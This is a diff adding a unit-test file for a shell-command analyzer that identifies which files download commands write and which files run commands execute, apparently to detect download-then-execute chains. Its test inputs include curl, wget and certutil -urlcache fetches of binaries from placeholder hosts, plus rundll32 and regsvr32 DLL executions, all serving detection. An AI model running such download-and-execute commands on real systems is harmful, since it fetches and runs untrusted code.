@@ -1,0 +1,36 @@
+// The one reading of download and run commands both front-ends share.
+import { describe, expect, it } from "vitest";
+import { downloadsOf, runsOf, scriptFilesOf } from "../../../src/analyzers/common/shell-downloads.js";
+import { parseShell } from "../../../src/analyzers/shell-words.js";
+
+const downloads = (line: string) => parseShell(line).flatMap(downloadsOf).map((d) => `${d.url} > ${d.file}`);
+// The program itself is always a candidate (matched later against the files written); shown here only when written as a path.
+const runs = (line: string) =>
+  parseShell(line)
+    .flatMap(runsOf)
+    .filter((r) => r.how !== `runs ${r.file}` || /[/\\.]/.test(r.file))
+    .map((r) => `${r.how}: ${r.file}`);
+
+describe("shell downloads and runs", () => {
+  it("names the file a downloader writes", () => {
+    expect(downloads("curl -s -H 'A: b' http://h.example.invalid/a -o out/a.bin")).toEqual(["http://h.example.invalid/a > out/a.bin"]);
+    expect(downloads("curl -sLO https://h.example.invalid/d/tool.tgz")).toEqual(["https://h.example.invalid/d/tool.tgz > tool.tgz"]);
+    expect(downloads("curl https://h.example.invalid/x > /tmp/x")).toEqual(["https://h.example.invalid/x > /tmp/x"]);
+    expect(downloads("wget -q -P /opt https://h.example.invalid/p/y")).toEqual(["https://h.example.invalid/p/y > /opt/y"]);
+    expect(downloads("wget -O - https://h.example.invalid/i.sh")).toEqual([]);
+    expect(downloads("certutil -urlcache -split -f http://198.51.100.1/a.dll c.dll")).toEqual(["http://198.51.100.1/a.dll > c.dll"]);
+    expect(downloads("curl -s https://h.example.invalid/ping")).toEqual([]);
+  });
+
+  it("names the file a command runs, not the command line a shell is given", () => {
+    expect(runs("./bin/tool --version")).toEqual(["runs ./bin/tool: ./bin/tool"]);
+    expect(runs("rundll32 x.dll,Start")).toEqual(["rundll32: x.dll"]);
+    expect(runs("regsvr32.exe /s c.dll")).toEqual(["runs regsvr32.exe: regsvr32.exe", "regsvr32: c.dll"]);
+    expect(runs("cmd /c setup.cmd")).toEqual(["cmd /c: setup.cmd"]);
+    expect(parseShell("shell.py --x").flatMap(runsOf)).toEqual([{ file: "shell.py", how: "runs shell.py" }]);
+    expect(runs("python3 -m pip install x")).toEqual([]);
+    expect(runs("sh -c 'echo hi'")).toEqual([]);
+    expect(runs("chmod +x a && node a.js")).toEqual(["node: a.js"]);
+    expect(scriptFilesOf(parseShell("bash ./scripts/x.sh && setup.bat && node i.js"))).toEqual(["./scripts/x.sh", "setup.bat"]);
+  });
+});
